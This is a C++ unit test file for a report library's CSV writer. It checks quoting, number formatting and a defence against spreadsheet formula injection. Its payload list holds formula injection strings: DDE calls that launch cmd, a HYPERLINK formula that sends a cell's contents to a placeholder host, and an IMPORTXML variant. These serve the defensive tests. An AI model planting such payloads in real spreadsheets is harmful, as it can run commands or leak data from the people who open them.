// SPDX-License-Identifier: GPL-3.0-or-later
#include <gtest/gtest.h>
#include <stdio.h>

#include <fstream>
#include <random>

#include "base/csv_in.h"
#include "base/json.h"
#include "base/number.h"
#include "report/table.h"
#include "support/shared_data.h"

namespace gloss::report {
namespace {

using Kind = Column::Kind;

Table table_of(std::vector<Value> cells) {
  Table table;
  for (std::size_t i = 0; i < cells.size(); ++i)
    table.columns.push_back({"c" + std::to_string(i), "", Kind::text});
  table.rows.push_back(std::move(cells));
  return table;
}

std::string cell(std::string_view text) {
  std::string out;
  append_csv_text(out, text);
  return out;
}

bool starts_formula(std::string_view text) {
  return !text.empty() && std::string_view("=+-@'\t\r").find(text.front()) != std::string_view::npos;
}

/// Beginnings that spreadsheets run, with what has been put behind them in the wild.
std::vector<std::string> formula_payloads() {
  std::vector<std::string> all;
  for (const std::string start : {"=", "+", "-", "@", "\t", "\r", "'", "='", "=\"", "\t=", "\r=", "'="})
    for (const std::string rest :
         {"1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
          "SUM(1,2)*cmd|'/c calc'!A1", "IMPORTXML(CONCAT(\"//x\",A1),\"//a\")",
          "DDE(\"cmd\";\"/C calc\";\"x\")", "受访者A", "", "\n=2", "5"})
      all.push_back(start + rest);
  return all;
}

TEST(Csv, QuotesOnlyWhatNeedsIt) {
  EXPECT_EQ(cell("dual management"), "dual management");
  EXPECT_EQ(cell(""), "");
  EXPECT_EQ(cell("a,b"), "\"a,b\"");
  EXPECT_EQ(cell("say \"no\""), "\"say \"\"no\"\"\"");
  EXPECT_EQ(cell("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(cell(" blank"), "\" blank\"");
  EXPECT_EQ(cell("=1,2"), "\"'=1,2\"");
  EXPECT_EQ(cell("双重管理"), "双重管理");
}

TEST(Csv, WritesUndefinedAsNothingAndNumbersInTheirShortestForm) {
  Table table = table_of({Value(), std::int64_t{-5}, 0.1, -0.5, 1e-7, 3.0, std::string("-5"), std::string()});
  table.columns.insert(table.columns.begin() + 2, {"", "for people", Kind::text});
  table.rows[0].insert(table.rows[0].begin() + 2, std::string("not here"));
  EXPECT_EQ(as_csv(table), "c0,c1,c2,c3,c4,c5,c6,c7\n,-5,0.1,-0.5,1e-07,3,'-5,\n");
  EXPECT_EQ(as_csv(table, true).substr(0, 5),
            "\xEF\xBB\xBF"
            "c0");
}

TEST(Csv, LosesNoRowWhoseOnlyCellIsEmpty) {
  EXPECT_EQ(as_csv(table_of({std::string()})), "c0\n\"\"\n");
  EXPECT_EQ(as_csv(table_of({Value()})), "c0\n\"\"\n");
}

TEST(Csv, GuardsEveryFormulaAndNoNumber) {
  const auto payloads = formula_payloads();
  ASSERT_EQ(payloads.size(), 120u);
  for (const std::string& payload : payloads) {
    std::vector<Value> cells(8, payload);
    const auto rows = read_csv(as_csv(table_of(cells)), "payloads.csv");
    ASSERT_TRUE(rows) << payload;
    ASSERT_EQ(rows->size(), 2u) << payload;
    ASSERT_EQ((*rows)[1].fields.size(), 8u) << payload;
    for (const std::string& field : (*rows)[1].fields) EXPECT_EQ(field, "'" + payload);
  }
  for (const double number : {-1.5, -0.0, -1e300, -1e-300, 2.5})
    EXPECT_EQ(as_csv(table_of({number, std::int64_t{-7}})), "c0,c1\n" + shortest(number) + ",-7\n");
}

TEST(Csv, IsReadBackByPythonAsItWasWritten) {
  std::mt19937_64 random(5);
  const auto below = [&](std::size_t n) { return static_cast<std::size_t>(random() % n); };
  const std::vector<std::string> pieces{"=",       "+",  "-",  "@",      "'", "\t",   "\r",   "\n",
                                        "\r\n",    "\"", ",",  ";",      " ", "a",    "管理", "🏸",
                                        "e\u0301", "12", "\\", "\u2028", "{", "\"\"", "x y",  "\u00A0"};
  const auto payloads = formula_payloads();
  const std::string folder = test::temporary_folder();
  Json expected = Json::array();
  for (int t = 0; t < 1000; ++t) {
    Table table;
    for (std::size_t c = 1 + below(6); c > 0; --c)
      table.columns.push_back({"c" + std::to_string(c), "", Kind::text});
    Json rows = Json::array();
    rows.push_back(Json::array());
    for (const Column& column : table.columns) rows.back().push_back(column.name);
    for (std::size_t r = below(8); r > 0; --r) {
      rows.push_back(Json::array());
      std::vector<Value> row;
      for (std::size_t c = 0; c < table.columns.size(); ++c) {
        std::string text;
        switch (below(6)) {
          case 0:
            row.emplace_back();
            break;
          case 1: {
            const auto whole = static_cast<std::int64_t>(below(2001)) - 1000;
            row.emplace_back(whole), text = std::to_string(whole);
            break;
          }
          case 2: {
            const double number = (static_cast<double>(below(1'000'000)) - 5e5) / 3;
            row.emplace_back(number), text = shortest(number);
            break;
          }
          case 3:
            text = payloads[below(payloads.size())];
            row.emplace_back(text), text.insert(0, "'");
            break;
          default:
            for (std::size_t n = below(6); n > 0; --n) text += pieces[below(pieces.size())];
            row.emplace_back(text);
            if (starts_formula(text)) text.insert(0, "'");
        }
        rows.back().push_back(text);
      }
      table.rows.push_back(std::move(row));
    }
    std::ofstream(folder + "/" + std::to_string(t) + ".csv", std::ios::binary) << as_csv(table);
    expected.push_back(std::move(rows));
  }
  std::ofstream(folder + "/expected.json", std::ios::binary) << json_line(expected);
  std::ofstream(folder + "/compare.py", std::ios::binary) << R"py(
import csv, json, sys
folder = sys.argv[1]
expected = json.load(open(folder + '/expected.json', encoding='utf-8'))
same = sum(list(csv.reader(open(f'{folder}/{i}.csv', encoding='utf-8', newline=''), strict=True)) == rows
           for i, rows in enumerate(expected))
print(same)
)py";
  FILE* python = popen(("python3 " + folder + "/compare.py " + folder + " 2>&1").c_str(), "r");
  ASSERT_NE(python, nullptr);
  std::string said;
  for (int c = fgetc(python); c != EOF; c = fgetc(python)) said += static_cast<char>(c);
  EXPECT_EQ(pclose(python), 0);
  EXPECT_EQ(said, "1000\n");
}

}  // namespace
}  // namespace gloss::report
